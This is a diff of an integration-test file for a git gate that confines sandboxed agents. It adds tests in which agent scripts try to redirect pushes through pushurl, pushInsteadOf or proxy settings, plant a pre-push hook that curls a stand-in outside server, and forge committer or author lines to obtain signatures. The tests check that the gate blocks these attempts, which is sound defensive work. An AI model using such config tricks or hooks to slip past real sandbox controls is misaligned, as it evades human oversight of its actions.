@@ -1,10 +1,12 @@
 import { execFileSync } from "node:child_process";
 import { randomBytes } from "node:crypto";
-import { chmodSync, readFileSync, writeFileSync } from "node:fs";
+import { chmodSync, existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { type AddressInfo, createServer } from "node:net";
 import { gunzipSync } from "node:zlib";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { ClocheEvent } from "../../src/model/event.ts";
 import { BottledAgents } from "../helpers/bottled-agents.ts";
+import { gateOf } from "../helpers/gate-of.ts";
 import { type GitWebServer, hostGit, makeUpstream, refsOf, serveWithHttpBackend } from "../helpers/git-server.ts";
 import { Installation, eventually, processesNaming } from "../helpers/installation.ts";
 import { SshServer } from "../helpers/ssh-server.ts";
@@ -106,10 +108,89 @@ describe("the git gate of a run", () => {
     ]);
   });
 
-  it("G-91 refuses a host that shows another key, and shows both fingerprints; tells what else is wrong with an upstream", async () => {
+  it("does over ssh what the rules allow: force, tags, deletion, several refs at once, options; and all or nothing", async () => {
+    const path = makeUpstream(upstreams, "open-ssh");
+    const hook = `${path}/hooks/pre-receive`;
+    writeFileSync(hook, '#!/bin/sh\necho "options: $GIT_PUSH_OPTION_COUNT $GIT_PUSH_OPTION_0"\n');
+    chmodSync(hook, 0o755);
+    const url = ssh.url(path);
+    agents.agent(
+      "open",
+      `exec 2>&1; set -e; git clone -q ${url} w; cd w; echo 1 > f; git add f; git commit -q -m one
+      git push -q origin HEAD:agent/x HEAD:agent/gone
+      git commit -q --amend -m another; ! git push -q origin HEAD:agent/x 2>/dev/null; git push -q --force origin HEAD:agent/x
+      git tag -a v1 -m first; git push --atomic -o ci.skip origin v1 HEAD:agent/y
+      git push -q origin --delete agent/gone
+      echo 2 > f; git commit -q -a -m two; ! git push --atomic origin HEAD:agent/x HEAD:main~bad HEAD:agent/z
+      ! git push origin HEAD:agent/x HEAD:denied; git ls-remote origin; git rev-parse HEAD~`,
+      {
+        bottle: {
+          git: {
+            user: IDENTITY,
+            repos: {
+              open: overSsh({
+                url,
+                rules: { branches: ["agent/*"], tags: "allow", force: "allow", delete: "allow" },
+              }),
+            },
+          },
+        },
+      },
+    );
+    const { stdout, end } = await agents.run("open");
+    expect(end.exit_code, stdout).toBe(0);
+    expect(stdout).toContain("options: 1 ci.skip");
+    expect(stdout).toContain("the branch denied is denied");
+    const tip = stdout.trim().split("\n").at(-1);
+    const { "refs/heads/main": main, "refs/tags/v1": tag, ...rest } = refsOf(path);
+    expect([main !== undefined, tag !== undefined]).toEqual([true, true]);
+    expect(rest).toEqual({ "refs/heads/agent/x": tip, "refs/heads/agent/y": tip });
+  });
+
+  it("G-83 G-88 G-117 is not led elsewhere by what the sandbox writes into its own configuration and hooks", async () => {
+    const path = makeUpstream(upstreams, "led");
+    const url = `file://${path}`;
+    let asked = 0;
+    const elsewhere = createServer((socket) => {
+      asked++;
+      socket.destroy();
+    });
+    await new Promise<void>((done) => elsewhere.listen(0, "127.0.0.1", done));
+    const there = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+    const denied = at.path("upstreams/over-file.git");
+    agents.agent(
+      "led",
+      `exec 2>&1; git clone -q ${url} w && cd w && echo 1 > f && git add f && git commit -q -m one
+      try() { git "$@"; echo "ended with $?"; }
+      git config remote.origin.pushurl ${there}/led.git; try push origin HEAD:agent/pushurl; git config --unset remote.origin.pushurl
+      git config url.${there}/.pushInsteadOf ${url}; try push origin HEAD:agent/instead; git config --unset url.${there}/.pushInsteadOf
+      git config remote.origin.pushurl file://${denied}; try push origin HEAD:agent/astray; git config --unset remote.origin.pushurl
+      git config http.proxy ${there}; try push origin HEAD:agent/proxied; git config --unset http.proxy
+      printf '#!/bin/sh\ncurl -s -m 5 ${there}/hook; curl -s -m 5 --noproxy "*" ${there}/hook; echo hook ran\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push
+      try push origin HEAD:agent/hooked; git rev-parse HEAD`,
+      { bottle: { git: { user: IDENTITY, repos: { led: { url } } } } },
+    );
+    const { stdout } = await agents.run("led");
+    await new Promise((done) => elsewhere.close(done));
+    expect(asked, stdout).toBe(0);
+    expect(stdout).toContain("hook ran");
+    const ends = [...stdout.matchAll(/^ended with (\d+)$/gm)].map(([, code]) => code === "0");
+    // Over a proxy of its own it reaches nobody; the door is told apart by its URL, so that it goes there straight.
+    expect(ends, stdout).toEqual([false, false, false, true, true]);
+    const { "refs/heads/main": main, ...rest } = refsOf(path);
+    expect(main).toBeDefined();
+    const tip = stdout.trim().split("\n").at(-1);
+    expect(rest).toEqual({ "refs/heads/agent/proxied": tip, "refs/heads/agent/hooked": tip });
+    expect(Object.keys(refsOf(denied))).not.toContain("refs/heads/agent/astray");
+  });
+
+  it("G-91 G-117 refuses a host that shows another key, and shows both fingerprints; tells what else is wrong with an upstream, also at its own name", async () => {
+    const named = "https://git.example.test/team/named.git";
+    // As a tool asks that knows neither `insteadOf` nor, the second time, a proxy.
+    const unaware = `GIT_CONFIG_GLOBAL=/dev/null git ls-remote ${named}; env -u HTTPS_PROXY -u https_proxy GIT_CONFIG_GLOBAL=/dev/null git ls-remote ${named}`;
     agents.agent(
       "wrong",
-      `for name in other nobody denied absent; do git ls-remote http://127.0.0.1:9418/$name; done; exit 0`,
+      `for name in other nobody denied absent; do git ls-remote http://127.0.0.1:9418/$name; done; ${unaware}; exit 0`,
       {
         bottle: {
           git: {
@@ -118,6 +199,7 @@ describe("the git gate of a run", () => {
               nobody: { url: "http://127.0.0.1:9/nobody.git" },
               denied: { url: `${web.url}/over-http.git` },
               absent: { url: `file://${upstreams}/absent.git` },
+              named: { url: named },
             },
           },
         },
@@ -128,6 +210,7 @@ describe("the git gate of a run", () => {
     expect(stderr).toMatch(/127\.0\.0\.1:9 cannot be reached/);
     expect(stderr).toMatch(/asks for a credential, and the repository has no `auth`/);
     expect(stderr).toMatch(/file has no such repository/);
+    expect([...stderr.matchAll(/git\.example\.test:443 cannot be reached/g)].length, stderr).toBe(2);
   });
 
   it("is not begun with a key that is missing or open, without a pin, or without a token", async () => {
@@ -156,12 +239,25 @@ describe("the git gate of a run", () => {
     const url = `file://${upstreams}/over-file.git`;
     agents.agent(
       "signed",
-      `git clone -q ${url} w && cd w && echo 1 > s && git add s && git commit -q -m signed && git push -q origin HEAD:agent/signed; for text in "any text" "$(git cat-file commit HEAD | sed 's/^committer .* </committer Somebody </')"; do curl -s --noproxy '*' --data-binary "$text" http://127.0.0.1:9418/-/sign; done; git -c user.name=Somebody commit -q --allow-empty -m other || echo refused`,
+      `git clone -q ${url} w && cd w && echo 1 > s && git add s && git commit -q -m signed && git push -q origin HEAD:agent/signed
+      own=$(git cat-file commit HEAD | sed '/^gpgsig/,/END SSH SIGNATURE/d')
+      ask() { printf '%s\n' "$1" | curl -s --noproxy '*' --data-binary @- http://127.0.0.1:9418/-/sign | head -n 1; }
+      ask "any text"
+      ask "$own"
+      ask "$(printf '%s\n' "$own" | sed 's/^committer .* </committer Somebody </')"
+      ask "$(printf '%s\n' "$own" | sed 's/^author .* </author Somebody </')"
+      git -c user.name=Somebody commit -q --allow-empty -m other || echo refused`,
       { bottle: { git: { user: IDENTITY, signing: { key: ssh.key }, repos: { "over-file": { url } } } } },
     );
     const { stdout, stderr } = await agents.run("signed");
     expect(stdout, stderr).toBe(
-      "cloche: it is not signed: it is neither a commit nor a tag\ncloche: it is not signed: it is neither a commit nor a tag\nrefused\n",
+      [
+        "cloche: it is not signed: it is neither a commit nor a tag",
+        "-----BEGIN SSH SIGNATURE-----",
+        "cloche: it is not signed: its committer is not who the bottle says",
+        "cloche: it is not signed: its author is not who the bottle says",
+        "refused\n",
+      ].join("\n"),
     );
     const signers = at.path("signers");
     writeFileSync(signers, `${IDENTITY.email} ${readFileSync(`${ssh.key}.pub`, "utf8")}`);
@@ -173,7 +269,14 @@ describe("the git gate of a run", () => {
     ]);
   });
 
-  it("goes on after its gate was killed, also while it sends, and knows what the upstream has", async () => {
+  it("goes on after its gate was killed, also while it sends, knows what the upstream has, and leaves no mirror", async () => {
+    const hold = at.path("hold");
+    const hook = `${upstreams}/over-http.git/hooks/pre-receive`;
+    writeFileSync(
+      hook,
+      `#!/bin/sh\ntest ! -e ${hold} || touch ${hold}.seen\nwhile test -e ${hold}; do sleep 0.05; done\n`,
+    );
+    chmodSync(hook, 0o755);
     agents.agent(
       "killed",
       `git clone -q ${web.url}/over-http.git w && cd w && for i in 1 2 3 4 5 6; do echo $i > n; git add n; git commit -q -m $i; until git push -q origin HEAD:agent/killed 2>/dev/null; do sleep 0.2; done; git fetch -q || true; echo pushed $i; done; git fsck --strict >/dev/null && git rev-parse HEAD`,
@@ -188,20 +291,25 @@ describe("the git gate of a run", () => {
     );
     const { identity, workspace_id } = await at.sdk.startRun("killed", agents.options({ variables }));
     const following = agents.follow(at.sdk.attachRun(identity));
-    const folder = `${at.home}/workspaces/${workspace_id}/gate`;
     for (const round of [1, 3]) {
       await eventually(
         async () => expect((await at.sdk.logsWorkspace(identity)).entries[0]?.stdout).toContain(`pushed ${round}`),
         60,
       );
-      const gates = processesNaming(folder).filter(
-        (line) => line.includes("max-old-space-size") && !line.includes("gate-keeper"),
-      );
-      expect(gates.length).toBeGreaterThan(0);
-      for (const line of gates) process.kill(Number(/^\d+/.exec(line)?.[0]), "SIGKILL");
+      // The second time while the upstream has a push of it, and has not yet decided.
+      if (round === 3) {
+        writeFileSync(hold, "");
+        await eventually(() => expect(existsSync(`${hold}.seen`)).toBe(true), 60);
+      }
+      const running = gateOf(at.home, workspace_id);
+      if (!running) throw new Error("no gate runs");
+      process.kill(running.gate, "SIGKILL");
+      rmSync(hold, { force: true });
     }
     const { stdout, stderr, end } = await following;
     expect(end.exit_code, stderr).toBe(0);
     expect(refsOf(`${upstreams}/over-http.git`)["refs/heads/agent/killed"]).toBe(stdout.trim().split("\n").at(-1));
+    const mirrors = () => execFileSync("find", [at.home, "-name", "*.git"], { encoding: "utf8" });
+    await eventually(() => expect(mirrors()).toBe(""));
   });
 });
